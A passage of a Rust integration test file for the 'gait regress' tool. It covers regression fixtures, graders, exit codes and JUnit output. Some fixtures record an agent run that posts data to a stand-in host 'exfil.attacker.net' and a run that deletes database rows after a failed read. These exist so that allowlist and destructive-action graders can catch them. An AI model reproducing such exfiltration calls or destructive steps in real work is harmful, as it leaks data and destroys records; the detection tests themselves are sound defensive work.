//! `gait regress init|add|bootstrap|run` through the binary (CONTRACTS §1.2, §3.7): fixtures,
//! graders, exit codes, regress_result.json, and JUnit read by a real JUnit parser.

use crate::support::Sandbox;
use serde_json::{Value, json};
use std::collections::BTreeSet;
use std::path::Path;
use std::process::Command;

/// The four graders every fixture gets (context_conformance only when asked for).
const BUILTINS: [&str; 4] = [
    "diff",
    "expected_exit_code",
    "schema_validation",
    "trajectory",
];

fn demo_fixture(sb: &Sandbox) {
    let (code, out) = sb.run_json(&["demo", "--json"]);
    assert_eq!(code, 0, "{out}");
    let (code, out) = sb.run_json(&["regress", "init", "--from", "run_demo", "--json"]);
    assert_eq!(code, 0, "{out}");
}

fn read_json(sb: &Sandbox, rel: &str) -> Value {
    serde_json::from_slice(&sb.read(rel)).unwrap_or_else(|e| panic!("{rel}: {e}"))
}

fn write_json(sb: &Sandbox, rel: &str, v: &Value) {
    sb.write(rel, serde_json::to_vec_pretty(v).unwrap());
}

/// Edits `fixtures/<name>/fixture.json`.
fn edit_fixture(sb: &Sandbox, name: &str, f: impl FnOnce(&mut Value)) {
    let rel = format!("fixtures/{name}/fixture.json");
    let mut spec = read_json(sb, &rel);
    f(&mut spec);
    write_json(sb, &rel, &spec);
}

/// Edits `gait.yaml`.
fn edit_config(sb: &Sandbox, f: impl FnOnce(&mut Value)) {
    let mut c = read_json(sb, "gait.yaml");
    f(&mut c);
    write_json(sb, "gait.yaml", &c);
}

/// The grader entries of regress_result.json by name.
fn graders(result: &Value) -> Vec<(String, Value)> {
    result["graders"]
        .as_array()
        .unwrap()
        .iter()
        .map(|g| (g["name"].as_str().unwrap().to_string(), g.clone()))
        .collect()
}

fn grader<'a>(result: &'a Value, name: &str) -> &'a Value {
    result["graders"]
        .as_array()
        .unwrap()
        .iter()
        .find(|g| g["name"] == name)
        .unwrap_or_else(|| panic!("no grader {name} in {result}"))
}

/// Records a runpack from a run-record document with `gait run record`; returns its path.
fn record(sb: &Sandbox, input: &Value, out_dir: &str) -> String {
    let file = format!("{out_dir}.input.json");
    write_json(sb, &file, input);
    let (code, out) = sb.run_json(&[
        "run",
        "record",
        "--input",
        &file,
        "--out-dir",
        out_dir,
        "--json",
    ]);
    assert_eq!(code, 0, "{out}");
    format!(
        "{out_dir}/runpack_{}.zip",
        input["run"]["run_id"].as_str().unwrap()
    )
}

/// The demo's run record with result `n` (1-based) given another message.
fn demo_with_changed_result(n: usize) -> Value {
    let mut input: Value =
        serde_json::from_slice(&gait_engine::runpack::demo::demo_input().unwrap()).unwrap();
    input["results"][n - 1]["result"]["message"] = json!("a different answer");
    input
}

/// A run record: intents `(id, tool, args)` and results `(id, status)`; raw capture keeps args.
fn run_record(
    run_id: &str,
    capture: &str,
    intents: &[(&str, &str, Value)],
    results: &[(&str, &str)],
) -> Value {
    json!({
        "run": {
            "run_id": run_id,
            "created_at": "2031-02-03T04:05:06Z",
            "env": {"os": "linux", "arch": "amd64", "runtime": "python"},
            "timeline": [{"event": "run_started", "ts": "2031-02-03T04:05:06Z"}],
        },
        "intents": intents.iter().map(|(id, tool, args)| json!({"intent_id": id, "tool_name": tool, "args": args})).collect::<Vec<_>>(),
        "results": results.iter().map(|(id, status)| json!({"intent_id": id, "status": status, "result": {"status": status}})).collect::<Vec<_>>(),
        "refs": {"receipts": []},
        "capture_mode": capture,
    })
}

/// The Python the test suite installed `junitparser` into (`scripts/test.sh` sets it). Missing is a
/// failure, not a skip: JUnit that no real consumer has read is not tested.
fn junit_python() -> String {
    // `scripts/test.sh` sets GAIT_TEST_PYTHON; after it ran once, the project venv also serves a plain
    // `cargo test`. Neither present is a failure, not a skip.
    let venv = crate::support::repo_root().join(if cfg!(windows) {
        ".venv/Scripts/python.exe"
    } else {
        ".venv/bin/python"
    });
    let py = std::env::var("GAIT_TEST_PYTHON")
        .ok()
        .or_else(|| venv.exists().then(|| venv.display().to_string()))
        .unwrap_or_else(|| {
            panic!("GAIT_TEST_PYTHON is not set and .venv does not exist: run the tests with `bash scripts/test.sh`, which installs junitparser into .venv and sets it")
        });
    let probe = Command::new(&py)
        .args(["-c", "import junitparser"])
        .output()
        .unwrap_or_else(|e| panic!("cannot run GAIT_TEST_PYTHON={py}: {e}"));
    assert!(
        probe.status.success(),
        "junitparser is not importable by {py}: {}",
        String::from_utf8_lossy(&probe.stderr)
    );
    py
}

const JUNIT_READER: &str = r#"
import json, sys
from junitparser import JUnitXml, Failure, Error, Skipped
xml = JUnitXml.fromfile(sys.argv[1])
out = {"tests": xml.tests, "failures": xml.failures, "errors": xml.errors, "skipped": xml.skipped, "suites": []}
for suite in xml:
    s = {"name": suite.name, "tests": suite.tests, "failures": suite.failures, "errors": suite.errors, "cases": []}
    for case in suite:
        results = [{"kind": type(r).__name__, "type": r.type, "message": r.message, "text": r.text} for r in case.result]
        s["cases"].append({"name": case.name, "classname": case.classname, "time": case.time, "results": results})
    out["suites"].append(s)
print(json.dumps(out))
"#;

/// Reads a JUnit file with the real `junitparser` and returns what it saw.
fn parse_junit(path: &Path) -> Value {
    let out = Command::new(junit_python())
        .args(["-c", JUNIT_READER])
        .arg(path)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "junitparser could not read {}: {}",
        path.display(),
        String::from_utf8_lossy(&out.stderr)
    );
    serde_json::from_slice(&out.stdout).unwrap()
}

#[test]
fn demo_init_run_writes_one_junit_testcase_per_grader() {
    let sb = Sandbox::new();
    demo_fixture(&sb);
    // CONTRACTS §3.7: gait.yaml is JSON naming fixtures/<name>/runpack.zip; fixture.json beside it.
    let config = read_json(&sb, "gait.yaml");
    assert_eq!(config["schema_id"], "gait.regress.config");
    assert_eq!(config["fixture_set"], "default");
    assert_eq!(
        config["fixtures"],
        json!([{"name": "run_demo", "run_id": "run_demo", "runpack": "fixtures/run_demo/runpack.zip"}])
    );
    assert_eq!(
        sb.read("fixtures/run_demo/runpack.zip"),
        sb.read("gait-out/runpack_run_demo.zip"),
        "the fixture runpack is a byte copy of the source"
    );
    let spec = read_json(&sb, "fixtures/run_demo/fixture.json");
    assert_eq!(spec["schema_id"], "gait.regress.fixture");
    assert_eq!(spec["runpack"], "runpack.zip");
    assert_eq!(spec["expected_replay_exit_code"], 0);

    let (code, out, err) = sb.run(&["regress", "run", "--junit", "junit.xml"]);
    assert_eq!(code, 0, "{out}{err}");
    assert!(
        out.starts_with("regress run pass: fixture_set=default fixtures=1 graders=4 failed=0\n"),
        "{out}"
    );
    assert!(
        err.is_empty(),
        "human mode with one fixture draws no progress: {err}"
    );

    let junit = parse_junit(&sb.join("junit.xml"));
    assert_eq!(
        (junit["tests"].as_u64(), junit["failures"].as_u64()),
        (Some(4), Some(0))
    );
    let suites = junit["suites"].as_array().unwrap();
    assert_eq!(suites.len(), 1);
    assert_eq!(suites[0]["name"], "gait.regress.default");
    let cases: BTreeSet<(String, String)> = suites[0]["cases"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| {
            assert_eq!(c["results"], json!([]), "passing testcase: {c}");
            (
                c["classname"].as_str().unwrap().to_string(),
                c["name"].as_str().unwrap().to_string(),
            )
        })
        .collect();
    let want: BTreeSet<(String, String)> = BUILTINS
        .iter()
        .map(|g| ("run_demo".to_string(), g.to_string()))
        .collect();
    assert_eq!(cases, want, "one testcase per grader");

    let result = read_json(&sb, "regress_result.json");
    assert_eq!(result["schema_id"], "gait.regress.result");
    assert_eq!(result["status"], "pass");
    // created_at is the fixture run's, not the clock: the demo run is 2026-02-05T00:00:00Z.
    assert_eq!(result["created_at"], "2026-02-05T00:00:00Z");
    let names: Vec<String> = graders(&result).into_iter().map(|(n, _)| n).collect();
    assert_eq!(
        names,
        BUILTINS.map(|g| format!("run_demo/{g}")),
        "sorted by name"
    );
    for (_, g) in graders(&result) {
        assert_eq!(g["details"]["fixture"], "run_demo");
        assert_eq!(g["details"]["run_id"], "run_demo");
    }
    assert_eq!(
        grader(&result, "run_demo/trajectory")["reason_codes"],
        json!(["trajectory_not_required"])
    );
}

#[test]
fn bootstrap_does_init_and_run_in_one_step() {
    let two_step = Sandbox::new();
    demo_fixture(&two_step);
    let (code, _) = two_step.run_json(&["regress", "run", "--junit", "junit.xml", "--json"]);
    assert_eq!(code, 0);

    let one_step = Sandbox::new();
    let (code, out) = one_step.run_json(&["demo", "--json"]);
    assert_eq!(code, 0, "{out}");
    let (code, out) = one_step.run_json(&[
        "regress",
        "bootstrap",
        "--from",
        "run_demo",
        "--junit",
        "junit.xml",
        "--json",
    ]);
    assert_eq!(code, 0, "{out}");
    assert_eq!(out["status"], "pass");
    assert_eq!(out["graders"], 4);
    assert_eq!(out["fixture"]["fixture_name"], "run_demo");
    for file in [
        "gait.yaml",
        "fixtures/run_demo/fixture.json",
        "regress_result.json",
        "junit.xml",
    ] {
        assert_eq!(
            one_step.read(file),
            two_step.read(file),
            "{file} differs between bootstrap and init+run"
        );
    }
    let junit = parse_junit(&one_step.join("junit.xml"));
    assert_eq!(junit["tests"], 4);
}

#[test]
fn run_json_output_has_the_contract_fields() {
    let sb = Sandbox::new();
    demo_fixture(&sb);
    let (code, out) = sb.run_json(&["regress", "run", "--json"]);
    assert_eq!(code, 0);
    // CONTRACTS §1.2: ok,status,fixture_set,graders(count),failed,top_failure_reason,next_command,
    // artifact_paths,output,junit.
    assert_eq!(out["ok"], true);
    assert_eq!(out["status"], "pass");
    assert_eq!(out["fixture_set"], "default");
    assert_eq!(out["graders"], 4);
    assert_eq!(out["failed"], 0);
    assert_eq!(out["output"], "regress_result.json");
    assert_eq!(out["artifact_paths"], json!(["regress_result.json"]));
    assert!(out.get("junit").is_none());
    assert_eq!(out["correlation_id"].as_str().map(str::len), Some(24));
}

/// A fixture whose candidate is the demo with result 2 changed.
fn changed_candidate(sb: &Sandbox) {
    demo_fixture(sb);
    let candidate = record(sb, &demo_with_changed_result(2), "candidate");
    assert_eq!(candidate, "candidate/runpack_run_demo.zip");
    edit_fixture(sb, "run_demo", |f| {
        f["candidate_runpack"] = json!("../../candidate/runpack_run_demo.zip");
    });
}

#[test]
fn a_changed_result_fails_the_diff_grader_with_exit_5() {
    let sb = Sandbox::new();
    changed_candidate(&sb);
    let (code, out) = sb.run_json(&["regress", "run", "--junit", "junit.xml", "--json"]);
    assert_eq!(code, 5, "regress failed is exit 5: {out}");
    assert_eq!(out["ok"], false);
    assert_eq!(out["status"], "fail");
    assert_eq!(out["failed"], 1);
    assert_eq!(out["top_failure_reason"], "unexpected_diff");
    assert_eq!(out["failures"][0]["name"], "run_demo/diff");
    assert_eq!(
        out["failures"][0]["reason_codes"],
        json!(["unexpected_diff"])
    );
    assert!(
        out["failures"][0]["message"]
            .as_str()
            .unwrap()
            .contains("intent_2"),
        "{out}"
    );
    assert_eq!(
        out["next_command"],
        "gait run diff fixtures/run_demo/runpack.zip fixtures/run_demo/../../candidate/runpack_run_demo.zip --json"
    );

    let result = read_json(&sb, "regress_result.json");
    assert_eq!(result["status"], "fail");
    let diff = grader(&result, "run_demo/diff");
    assert_eq!(diff["status"], "fail");
    assert_eq!(diff["reason_codes"], json!(["unexpected_diff"]));
    assert_eq!(diff["details"]["changed_files"], json!(["results.jsonl"]));
    assert_eq!(
        diff["details"]["diff"]["changed_results"],
        json!(["intent_2"])
    );
    // The other graders still report: the candidate is intact and replays.
    for g in ["expected_exit_code", "schema_validation", "trajectory"] {
        assert_eq!(
            grader(&result, &format!("run_demo/{g}"))["status"],
            "pass",
            "{g}"
        );
    }

    let junit = parse_junit(&sb.join("junit.xml"));
    assert_eq!(
        (junit["tests"].as_u64(), junit["failures"].as_u64()),
        (Some(4), Some(1))
    );
    let cases = junit["suites"][0]["cases"].as_array().unwrap();
    let failing: Vec<&Value> = cases.iter().filter(|c| c["results"] != json!([])).collect();
    assert_eq!(failing.len(), 1);
    assert_eq!(failing[0]["name"], "diff");
    assert_eq!(failing[0]["classname"], "run_demo");
    assert_eq!(
        failing[0]["results"],
        json!([{"kind": "Failure", "type": "regress_failure", "message": "unexpected_diff", "text": "unexpected_diff"}])
    );

    // Human mode names the failure too.
    let (code, text, _) = sb.run(&["regress", "run"]);
    assert_eq!(code, 5);
    assert!(
        text.contains("\nFAIL run_demo/diff: unexpected_diff ("),
        "{text}"
    );
}

#[test]
fn allowed_changed_files_let_the_diff_pass() {
    let sb = Sandbox::new();
    changed_candidate(&sb);
    edit_fixture(&sb, "run_demo", |f| {
        f["diff_allow_changed_files"] = json!(["results.jsonl"])
    });
    let (code, out) = sb.run_json(&["regress", "run", "--json"]);
    assert_eq!(code, 0, "{out}");
}

#[test]
fn trajectory_and_exit_code_expectations() {
    let sb = Sandbox::new();
    demo_fixture(&sb);
    edit_fixture(&sb, "run_demo", |f| {
        f["expected_tool_sequence"] = json!(["tool.search", "tool.fetch", "tool.summarize"]);
        f["expected_verdict_sequence"] = json!(["ok", "ok", "ok"]);
    });
    let (code, _) = sb.run_json(&["regress", "run", "--json"]);
    assert_eq!(code, 0);
    assert_eq!(
        grader(
            &read_json(&sb, "regress_result.json"),
            "run_demo/trajectory"
        )["reason_codes"],
        json!(["trajectory_match"])
    );

    edit_fixture(&sb, "run_demo", |f| {
        f["expected_tool_sequence"] = json!(["tool.search", "tool.summarize"]);
        f["expected_verdict_sequence"] = json!(["ok", "error", "ok"]);
        f["expected_replay_exit_code"] = json!(2);
    });
    let (code, out) = sb.run_json(&["regress", "run", "--json"]);
    assert_eq!(code, 5, "{out}");
    let result = read_json(&sb, "regress_result.json");
    assert_eq!(
        grader(&result, "run_demo/trajectory")["reason_codes"],
        json!(["unexpected_tool_sequence", "unexpected_verdict_sequence"])
    );
    let exit = grader(&result, "run_demo/expected_exit_code");
    assert_eq!(exit["reason_codes"], json!(["unexpected_exit_code"]));
    assert_eq!(
        (
            exit["details"]["expected"].as_i64(),
            exit["details"]["actual"].as_i64()
        ),
        (Some(2), Some(0))
    );
}

#[test]
fn a_missing_result_replays_with_exit_2() {
    // CONTRACTS §3.7: a missing replay result makes the actual exit code 2. A tool whose name implies
    // no stub type (tool.summarize) has no stand-in result.
    let sb = Sandbox::new();
    let input = run_record(
        "run_gap",
        "reference",
        &[("intent_1", "tool.summarize", json!({}))],
        &[],
    );
    let zip = record(&sb, &input, "out");
    let (code, out) = sb.run_json(&["regress", "init", "--from", &zip, "--json"]);
    assert_eq!(code, 0, "{out}");
    let (code, _) = sb.run_json(&["regress", "run", "--json"]);
    assert_eq!(code, 5);
    let exit = grader(
        &read_json(&sb, "regress_result.json"),
        "run_gap/expected_exit_code",
    )
    .clone();
    assert_eq!(exit["reason_codes"], json!(["unexpected_exit_code"]));
    assert_eq!(exit["details"]["actual"], 2);
    assert_eq!(exit["details"]["missing_results"], json!(["intent_1"]));
    edit_fixture(&sb, "run_gap", |f| {
        f["expected_replay_exit_code"] = json!(2)
    });
    let (code, _) = sb.run_json(&["regress", "run", "--json"]);
    assert_eq!(code, 0);
}

#[test]
fn results_are_byte_stable() {
    let sb = Sandbox::new();
    changed_candidate(&sb);
    let (code, _) = sb.run_json(&[
        "regress", "run", "--junit", "j1.xml", "--output", "r1.json", "--json",
    ]);
    assert_eq!(code, 5);
    let (code, _) = sb.run_json(&[
        "regress",
        "run",
        "--junit",
        "j2.xml",
        "--output",
        "r2.json",
        "--json",
        "--workers",
        "1",
    ]);
    assert_eq!(code, 5);
    assert_eq!(sb.read("r1.json"), sb.read("r2.json"));
    assert_eq!(sb.read("j1.xml"), sb.read("j2.xml"));
}

#[test]
fn a_tampered_fixture_runpack_fails_schema_validation() {
    let sb = Sandbox::new();
    demo_fixture(&sb);
    // Replace the fixture runpack by one whose results.jsonl no longer matches the manifest.
    let zip = sb.read("fixtures/run_demo/runpack.zip");
    let archive =
        gait_engine::zipx::Archive::open(zip, gait_engine::zipx::ZipLimits::default()).unwrap();
    let mut entries: Vec<(String, Vec<u8>)> = archive
        .entries()
        .iter()
        .map(|e| (e.name.clone(), archive.read(&e.name).unwrap().unwrap()))
        .collect();
    for (name, data) in entries.iter_mut() {
        if name == "results.jsonl" {
            *data = String::from_utf8(data.clone())
                .unwrap()
                .replace("\"ok\"", "\"error\"")
                .into_bytes();
        }
    }
    let rezipped = gait_engine::zipx::write_deterministic(
        entries
            .iter()
            .map(|(n, d)| gait_engine::zipx::Entry {
                name: n.clone(),
                data: d,
                executable: false,
            })
            .collect(),
        &gait_engine::zipx::ZipLimits::default(),
    )
    .unwrap();
    sb.write("fixtures/run_demo/runpack.zip", rezipped);
    let (code, out) = sb.run_json(&["regress", "run", "--json"]);
    assert_eq!(code, 5, "{out}");
    let schema = grader(
        &read_json(&sb, "regress_result.json"),
        "run_demo/schema_validation",
    )
    .clone();
    assert_eq!(schema["reason_codes"], json!(["hash_mismatch"]));
    assert_eq!(
        schema["details"]["hash_mismatches"],
        json!(["results.jsonl"])
    );

    // Not a zip at all: the fixture fails, the run still completes and reports every grader.
    sb.write("fixtures/run_demo/runpack.zip", b"not a zip");
    let (code, _) = sb.run_json(&["regress", "run", "--json"]);
    assert_eq!(code, 5);
    let result = read_json(&sb, "regress_result.json");
    assert_eq!(graders(&result).len(), 4);
    assert_eq!(
        grader(&result, "run_demo/schema_validation")["reason_codes"],
        json!(["runpack_parse_error"])
    );
    assert_eq!(
        grader(&result, "run_demo/expected_exit_code")["reason_codes"],
        json!(["replay_error"])
    );
}

#[test]
fn a_missing_candidate_is_reported_by_trajectory_and_diff() {
    let sb = Sandbox::new();
    demo_fixture(&sb);
    edit_fixture(&sb, "run_demo", |f| {
        f["candidate_runpack"] = json!("nowhere.zip")
    });
    let (code, _) = sb.run_json(&["regress", "run", "--json"]);
    assert_eq!(code, 5);
    let result = read_json(&sb, "regress_result.json");
    assert_eq!(
        grader(&result, "run_demo/trajectory")["reason_codes"],
        json!(["candidate_path_invalid"])
    );
    assert_eq!(
        grader(&result, "run_demo/diff")["reason_codes"],
        json!(["diff_error"])
    );
}

#[test]
fn context_conformance_runs_when_asked_for() {
    let sb = Sandbox::new();
    demo_fixture(&sb);
    let (code, out) = sb.run_json(&["regress", "run", "--context-conformance", "--json"]);
    assert_eq!(code, 0, "{out}");
    assert_eq!(out["graders"], 5);
    let cc = grader(
        &read_json(&sb, "regress_result.json"),
        "run_demo/context_conformance",
    )
    .clone();
    assert_eq!(
        cc["reason_codes"],
        json!(["context_conformance_not_required"])
    );
    assert_eq!(cc["context_conformance"], "none");
    // Required by the fixture: the demo runpack carries no context_set_digest.
    edit_fixture(&sb, "run_demo", |f| f["context_conformance"] = json!(true));
    let (code, _) = sb.run_json(&["regress", "run", "--json"]);
    assert_eq!(code, 5);
    let cc = grader(
        &read_json(&sb, "regress_result.json"),
        "run_demo/context_conformance",
    )
    .clone();
    assert_eq!(cc["reason_codes"], json!(["context_evidence_missing"]));
}

#[test]
fn invalid_inputs_exit_6_with_hints() {
    let sb = Sandbox::new();
    // No fixture set yet.
    let (code, out) = sb.run_json(&["regress", "run", "--json"]);
    assert_eq!(code, 6, "{out}");
    assert!(
        out["error"].as_str().unwrap().contains("gait.yaml"),
        "{out}"
    );
    assert!(
        out["hint"].as_str().unwrap().contains("gait regress init"),
        "{out}"
    );
    // No source runpack (seed README troubleshooting: `regress init` missing source runpack).
    let (code, out) = sb.run_json(&["regress", "init", "--from", "run_demo", "--json"]);
    assert_eq!(code, 6, "{out}");
    assert!(out["hint"].as_str().unwrap().contains("gait demo"), "{out}");

    demo_fixture(&sb);
    let (code, out) = sb.run_json(&[
        "regress", "init", "--from", "run_demo", "--name", "Bad Name", "--json",
    ]);
    assert_eq!(code, 6, "{out}");
    let (code, out) = sb.run_json(&["regress", "add", "--from", "run_demo", "--json"]);
    assert_eq!(code, 6, "add refuses to replace: {out}");
    let (code, out) = sb.run_json(&[
        "regress", "add", "--from", "run_demo", "--name", "second", "--json",
    ]);
    assert_eq!(code, 0, "{out}");
    assert_eq!(
        read_json(&sb, "gait.yaml")["fixtures"]
            .as_array()
            .unwrap()
            .len(),
        2
    );
    let (code, out) = sb.run_json(&["regress", "run", "--output", "../escape.json", "--json"]);
    assert_eq!(code, 6, "{out}");

    let good = sb.read("gait.yaml");
    let text = String::from_utf8(good.clone()).unwrap();
    // Duplicate keys, unknown keys, and YAML syntax are invalid (the file is JSON).
    for bad in [
        text.replacen(
            "\"fixture_set\": \"default\",",
            "\"fixture_set\": \"default\", \"fixture_set\": \"x\",",
            1,
        ),
        text.replacen("\"fixture_set\"", "\"fixture_sets\"", 1),
        "schema_id: gait.regress.config\n".to_string(),
    ] {
        sb.write("gait.yaml", &bad);
        let (code, out) = sb.run_json(&["regress", "run", "--json"]);
        assert_eq!(code, 6, "{bad}: {out}");
    }
    sb.write("gait.yaml", &good);
    edit_fixture(&sb, "run_demo", |f| f["expected_tool_sequense"] = json!([]));
    let (code, out) = sb.run_json(&["regress", "run", "--json"]);
    assert_eq!(code, 6, "{out}");
    assert!(
        out["error"]
            .as_str()
            .unwrap()
            .contains("expected_tool_sequense"),
        "{out}"
    );
}

#[test]
fn init_refuses_a_runpack_that_fails_verification() {
    let sb = Sandbox::new();
    let (code, _) = sb.run_json(&["demo", "--json"]);
    assert_eq!(code, 0);
    let zip = sb.read("gait-out/runpack_run_demo.zip");
    let archive =
        gait_engine::zipx::Archive::open(zip, gait_engine::zipx::ZipLimits::default()).unwrap();
    let entries: Vec<(String, Vec<u8>)> = archive
        .entries()
        .iter()
        .map(|e| {
            let mut d = archive.read(&e.name).unwrap().unwrap();
            if e.name == "intents.jsonl" {
                d.push(b' ');
            }
            (e.name.clone(), d)
        })
        .collect();
    let rezipped = gait_engine::zipx::write_deterministic(
        entries
            .iter()
            .map(|(n, d)| gait_engine::zipx::Entry {
                name: n.clone(),
                data: d,
                executable: false,
            })
            .collect(),
        &gait_engine::zipx::ZipLimits::default(),
    )
    .unwrap();
    sb.write("bad/runpack_run_demo.zip", rezipped);
    let (code, out) = sb.run_json(&[
        "regress",
        "init",
        "--from",
        "bad/runpack_run_demo.zip",
        "--json",
    ]);
    assert_eq!(code, 2, "{out}");
    assert!(
        out["error"].as_str().unwrap().contains("intents.jsonl"),
        "{out}"
    );
    assert!(
        !sb.join("gait.yaml").exists(),
        "nothing is written for a bad source"
    );
    assert!(!sb.join("fixtures").exists());
}

#[test]
fn many_fixtures_draw_no_progress_off_a_terminal() {
    // Progress is only for humans at a terminal: in tests stderr is a pipe, so even a large set
    // writes nothing there, and with --json never.
    let sb = Sandbox::new();
    demo_fixture(&sb);
    for i in 0..24 {
        let (code, out) = sb.run_json(&[
            "regress",
            "add",
            "--from",
            "run_demo",
            "--name",
            &format!("copy{i:02}"),
            "--json",
        ]);
        assert_eq!(code, 0, "{out}");
    }
    let (code, out, err) = sb.run(&["regress", "run"]);
    assert_eq!(code, 0, "{out}");
    assert!(out.contains("fixtures=25 graders=100 failed=0"), "{out}");
    assert!(err.is_empty(), "{err}");
}

// ---- script graders through the binary ----

fn examples_dir() -> std::path::PathBuf {
    crate::support::repo_root().join("examples/graders")
}

/// Copies example scripts into `graders/` and names them in gait.yaml.
fn add_script_graders(sb: &Sandbox, files: &[&str]) {
    let mut list = Vec::new();
    for f in files {
        sb.write(
            &format!("graders/{f}"),
            std::fs::read(examples_dir().join(f)).unwrap(),
        );
        let name = f.replace('.', "_");
        list.push(json!({"name": name, "script": format!("graders/{f}")}));
    }
    edit_config(sb, |c| c["graders"] = json!(list));
}

#[test]
fn example_script_graders_run_on_the_demo() {
    let sb = Sandbox::new();
    demo_fixture(&sb);
    add_script_graders(
        &sb,
        &[
            "every_intent_has_a_result.rhai",
            "every_intent_has_a_result.lua",
        ],
    );
    let (code, out) = sb.run_json(&["regress", "run", "--junit", "junit.xml", "--json"]);
    assert_eq!(code, 0, "{out}");
    assert_eq!(out["graders"], 6);
    let result = read_json(&sb, "regress_result.json");
    for (name, lang) in [
        ("every_intent_has_a_result_rhai", "rhai"),
        ("every_intent_has_a_result_lua", "lua"),
    ] {
        let g = grader(&result, &format!("run_demo/{name}"));
        assert_eq!(g["status"], "pass");
        assert_eq!(g["reason_codes"], json!(["every_intent_has_result"]));
        assert_eq!(g["details"]["language"], lang);
        assert_eq!(
            g["details"]["script_sha256"].as_str().map(str::len),
            Some(64)
        );
    }
    let junit = parse_junit(&sb.join("junit.xml"));
    assert_eq!(junit["tests"], 6);
    // Gait's own documentation of these examples is the same text as the files.
    let doc = std::fs::read_to_string(crate::support::repo_root().join("docs/graders.md")).unwrap();
    for f in std::fs::read_dir(examples_dir()).unwrap() {
        let path = f.unwrap().path();
        let body = std::fs::read_to_string(&path).unwrap();
        assert!(
            doc.contains(&body),
            "docs/graders.md does not show {} verbatim",
            path.display()
        );
    }
}

#[test]
fn url_allowlist_grader_catches_a_host_on_a_raw_runpack() {
    let sb = Sandbox::new();
    let input = run_record(
        "run_leak",
        "raw",
        &[
            (
                "intent_1",
                "http.get",
                json!({"url": "https://api.example.com/v1"}),
            ),
            (
                "intent_2",
                "http.post",
                json!({"url": "https://exfil.attacker.net/up"}),
            ),
        ],
        &[("intent_1", "ok"), ("intent_2", "ok")],
    );
    let zip = record(&sb, &input, "out");
    let (code, out) = sb.run_json(&["regress", "init", "--from", &zip, "--json"]);
    assert_eq!(code, 0, "{out}");
    add_script_graders(
        &sb,
        &[
            "url_host_allowlist.rhai",
            "url_host_allowlist.lua",
            "no_destructive_after_failed_read.lua",
        ],
    );
    let (code, out) = sb.run_json(&["regress", "run", "--junit", "junit.xml", "--json"]);
    assert_eq!(code, 5, "{out}");
    let result = read_json(&sb, "regress_result.json");
    for name in ["url_host_allowlist_rhai", "url_host_allowlist_lua"] {
        let g = grader(&result, &format!("run_leak/{name}"));
        assert_eq!(g["reason_codes"], json!(["url_host_not_allowed"]), "{g}");
        assert_eq!(
            g["details"]["data"]["outside"][0]["host"],
            "exfil.attacker.net"
        );
    }
    assert_eq!(
        grader(&result, "run_leak/no_destructive_after_failed_read_lua")["status"],
        "pass"
    );
    let junit = parse_junit(&sb.join("junit.xml"));
    let cases = junit["suites"][0]["cases"].as_array().unwrap();
    let msgs: BTreeSet<String> = cases
        .iter()
        .filter(|c| c["results"] != json!([]))
        .map(|c| {
            format!(
                "{}:{}",
                c["name"].as_str().unwrap(),
                c["results"][0]["message"].as_str().unwrap()
            )
        })
        .collect();
    assert_eq!(
        msgs,
        BTreeSet::from([
            "url_host_allowlist_lua:url_host_not_allowed".to_string(),
            "url_host_allowlist_rhai:url_host_not_allowed".to_string()
        ])
    );
}

#[test]
fn destructive_after_failed_read_grader_through_a_fixture_json() {
    let sb = Sandbox::new();
    let input = run_record(
        "run_incident",
        "reference",
        &[
            ("intent_1", "db.query_read", json!({})),
            ("intent_2", "db.delete_rows", json!({})),
        ],
        &[("intent_1", "error"), ("intent_2", "ok")],
    );
    let zip = record(&sb, &input, "out");
    let (code, out) = sb.run_json(&["regress", "init", "--from", &zip, "--json"]);
    assert_eq!(code, 0, "{out}");
    // A fixture-level grader: the path is relative to the fixture directory.
    sb.write(
        "fixtures/run_incident/no_destructive.rhai",
        std::fs::read(examples_dir().join("no_destructive_after_failed_read.rhai")).unwrap(),
    );
    edit_fixture(&sb, "run_incident", |f| {
        f["graders"] = json!([{"name": "no_destructive", "script": "no_destructive.rhai"}]);
    });
    let (code, out) = sb.run_json(&["regress", "run", "--json"]);
    assert_eq!(code, 5, "{out}");
    assert_eq!(out["failures"][0]["name"], "run_incident/no_destructive");
    assert_eq!(out["top_failure_reason"], "destructive_after_failed_read");
}

#[test]
fn a_script_that_does_not_compile_is_invalid_input_with_its_position() {
    let sb = Sandbox::new();
    demo_fixture(&sb);
    for (file, src, pos) in [
        (
            "bad.rhai",
            "let x = 1;\nlet y = ;\n",
            "graders/bad.rhai:2:9:",
        ),
        (
            "bad.lua",
            "local x = 1\nlocal y = = 2\n",
            "graders/bad.lua:2:9:",
        ),
    ] {
        sb.write(&format!("graders/{file}"), src);
        edit_config(&sb, |c| {
            c["graders"] = json!([{"name": "bad", "script": format!("graders/{file}")}])
        });
        let (code, out) = sb.run_json(&["regress", "run", "--json"]);
        assert_eq!(code, 6, "{out}");
        assert!(out["error"].as_str().unwrap().starts_with(pos), "{out}");
        assert!(
            !sb.join("regress_result.json").exists(),
            "no result for an invalid run"
        );
    }
    edit_config(&sb, |c| {
        c["graders"] = json!([{"name": "gone", "script": "graders/missing.rhai"}])
    });
    let (code, out) = sb.run_json(&["regress", "run", "--json"]);
    assert_eq!(code, 6, "{out}");
}

// ---- sandbox attacks: each ends its own grader through its limit; the run still reports ----

/// Runs a fixture set with one attacking script grader under a generous watchdog; returns the
/// attacker's result entry after checking that the four builtin graders still reported.
fn attack(file: &str, source: &str) -> Value {
    let sb = Sandbox::new();
    demo_fixture(&sb);
    sb.write(
        &format!("graders/{file}"),
        format!(
            "print(\"attack starting\"){}\n{source}",
            if file.ends_with(".rhai") { ";" } else { "" }
        ),
    );
    edit_config(&sb, |c| {
        c["graders"] = json!([{"name": "attacker", "script": format!("graders/{file}")}])
    });
    let out = sb
        .gait()
        .args(["regress", "run", "--json", "--junit", "junit.xml"])
        .timeout(std::time::Duration::from_secs(300))
        .output()
        .expect("run gait");
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.stderr.is_empty(),
        "stderr must stay empty: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(
        stdout.lines().count(),
        1,
        "one JSON line (script output never reaches stdout): {stdout}"
    );
    assert_eq!(out.status.code(), Some(5), "{stdout}");
    let result = read_json(&sb, "regress_result.json");
    for g in BUILTINS {
        assert_eq!(
            grader(&result, &format!("run_demo/{g}"))["status"],
            "pass",
            "builtin {g} still reports"
        );
    }
    let junit = parse_junit(&sb.join("junit.xml"));
    assert_eq!(
        (junit["tests"].as_u64(), junit["failures"].as_u64()),
